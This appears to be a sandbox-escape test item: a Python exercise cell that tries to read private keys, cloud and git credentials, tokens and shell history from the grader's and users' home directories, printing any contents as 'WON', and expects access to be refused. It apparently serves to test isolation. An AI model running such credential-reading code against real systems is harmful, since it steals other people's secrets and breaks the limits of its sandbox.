# title: reads the home of whoever grades, keys and tokens among it
# exercise: Exercise 1
# shows: homes: refused

# %% total
import glob
import os
import pathlib

total = int(table["y"].sum())

homes = {"@HOME@", "/root", os.path.expanduser("~root"), *glob.glob("/home/*")}
names = (".netrc", ".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/authorized_keys", ".bash_history", ".profile", ".bashrc", ".gitconfig", ".git-credentials", ".config/gh/hosts.yml", ".jupyter/jupyter_server_config.py", ".ipython/profile_default/history.sqlite", ".pypirc", ".aws/credentials", ".python_history", ".cache/pip")
for home in homes:
    for name in names:
        try:
            print("WON", home, name, pathlib.Path(home, name).read_bytes()[:500])
        except OSError:
            pass
    for action in (lambda: os.listdir(home), lambda: open(f"{home}/@LEFT@", "x"), lambda: os.mkdir(f"{home}/@LEFT@")):
        try:
            print("WON", home, action())
        except OSError:
            pass
print("homes: refused")
